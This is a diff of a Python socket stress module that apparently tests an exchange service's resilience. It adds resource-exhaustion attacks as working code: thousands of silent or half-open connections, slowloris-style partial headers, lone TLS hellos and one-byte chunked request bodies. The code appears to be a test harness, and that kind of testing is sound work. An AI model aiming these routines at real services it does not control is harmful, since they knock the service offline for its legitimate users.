@@ -2,14 +2,16 @@
 
 All of them keep many sockets busy from one process, each as fast as it is let: connect, say the
 same, hear something, and say it again, or hang up and come back. What counts is answers, or, where
-nothing is said, connections that were made.
+nothing is said or only half of something, connections that were made.
 """
 
 from __future__ import annotations
 
 import contextlib
+import resource
 import selectors
 import socket
+import ssl
 import time
 from urllib.parse import urlsplit
 
@@ -18,6 +20,13 @@ from raw_websocket import handshake
 
 SOCKETS = 400
 SOCKETS_WITH_TOKEN = 90
+SOCKETS_OF_HALVES = 1_000
+SOCKETS_OF_HELLOS = 400
+SOCKETS_OF_SILENCE = 2_500
+DESCRIPTORS = 8_192
+HALF_HEAD_BYTES = 16_000
+SOCKETS_OF_CHUNKS = 4
+SMALLEST_CHUNKS = 40_000
 PIPELINED = 20
 LARGE_BODY_BYTES = 70_000
 OPENED_AT_ONCE = 50
@@ -28,12 +37,15 @@ LINGERS = b"\x01\x00\x00\x00\x00\x00\x00\x00"
 class Knocker:
     """One socket that says the same for ever, and comes back when it is hung up on."""
 
-    def __init__(self, address: tuple[str, int], said: bytes, *, hangs_up: bool) -> None:
+    def __init__(
+        self, address: tuple[str, int], said: bytes, *, hangs_up: bool, holds: bool
+    ) -> None:
         self.answers = 0
         self.opened = 0
         self._address = address
         self._said = said
         self._hangs_up = hangs_up
+        self._holds = holds
         self._left = b""
         self._is_connecting = True
         self.socket: socket.socket | None = None
@@ -62,7 +74,7 @@ class Knocker:
                 raise ConnectionError
             self.opened += 1
         if not self._said:
-            return False
+            return self._holds
         sent = self.socket.send(self._left)
         self._left = self._left[sent:]
         return True
@@ -72,7 +84,8 @@ class Knocker:
         assert self.socket is not None
         heard = self.socket.recv(1 << 18)
         self.answers += heard.count(b"HTTP/1.1 ")
-        self._left = self._left or self._said
+        if not self._holds:
+            self._left = self._left or self._said
         return bool(heard) and not self._hangs_up
 
     @property
@@ -80,13 +93,24 @@ class Knocker:
         return bool(self._left)
 
 
-def knock(plan: AttackPlan, sockets: int, said: bytes, *, hangs_up: bool = False) -> Done:
-    """Keep so many sockets busy for a while."""
+def knock(
+    plan: AttackPlan,
+    sockets: int,
+    said: bytes,
+    *,
+    hangs_up: bool = False,
+    holds: bool = False,
+    is_heard: bool = True,
+) -> Done:
+    """Keep so many sockets busy for a while; one that `holds` stays silent after what it has said,
+    and comes back when it is hung up on. Connections count, not answers, unless it `is_heard`."""
+    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (min(DESCRIPTORS, most), most))
     parts = urlsplit(plan.url)
     assert parts.hostname is not None and parts.port is not None
     address = (parts.hostname, parts.port)
     ends = time.monotonic() + plan.seconds
-    knockers = [Knocker(address, said, hangs_up=hangs_up) for _ in range(sockets)]
+    knockers = [Knocker(address, said, hangs_up=hangs_up, holds=holds) for _ in range(sockets)]
     closed = list(knockers)
     with selectors.DefaultSelector() as selector:
         while time.monotonic() < ends:
@@ -125,7 +149,7 @@ def knock(plan: AttackPlan, sockets: int, said: bytes, *, hangs_up: bool = False
     opened = sum(knocker.opened for knocker in knockers)
     answers = sum(knocker.answers for knocker in knockers)
     note = f"{answers:,} answers over {opened:,} connections"
-    return Done(note, answers if said else opened)
+    return Done(note, answers if said and is_heard and not holds else opened)
 
 
 # By name ------------------------------------------------------------------------------------------
@@ -147,6 +171,40 @@ def handshakes(plan: AttackPlan) -> Done:
 
 def connects(plan: AttackPlan) -> Done:
     return knock(plan, SOCKETS, b"")
+
+
+def silence(plan: AttackPlan) -> Done:
+    return knock(plan, SOCKETS_OF_SILENCE, b"", holds=True)
+
+
+def half_heads(plan: AttackPlan) -> Done:
+    half = _request("GET /v1/status").removesuffix(b"\r\n") + b"X: "
+    return knock(plan, SOCKETS_OF_HALVES, half + b"x" * HALF_HEAD_BYTES, holds=True)
+
+
+def half_handshakes(plan: AttackPlan) -> Done:
+    """Say hello in TLS, and nothing more."""
+    hello = ssl.MemoryBIO()
+    client = ssl.create_default_context().wrap_bio(
+        ssl.MemoryBIO(), hello, server_hostname="exchange"
+    )
+    with contextlib.suppress(ssl.SSLWantReadError):
+        client.do_handshake()
+    return knock(plan, SOCKETS_OF_HELLOS, hello.read(), holds=True)
+
+
+def smallest_chunks(plan: AttackPlan) -> Done:
+    """Bodies of one byte at a time, all at once; nobody shows a token."""
+    body = b"1\r\n \r\n" * SMALLEST_CHUNKS + b"0\r\n\r\n"
+    head = _request("POST /v1/orders", "Transfer-Encoding: chunked")
+    return knock(plan, SOCKETS, head + body, is_heard=False)
+
+
+def own_smallest_chunks(plan: AttackPlan) -> Done:
+    """The same, with a token."""
+    body = b"1\r\n \r\n" * SMALLEST_CHUNKS + b"0\r\n\r\n"
+    head = _request("POST /v1/orders", _bearer(plan.token), "Transfer-Encoding: chunked")
+    return knock(plan, SOCKETS_OF_CHUNKS, head + body)
 
 
 def not_there(plan: AttackPlan) -> Done:
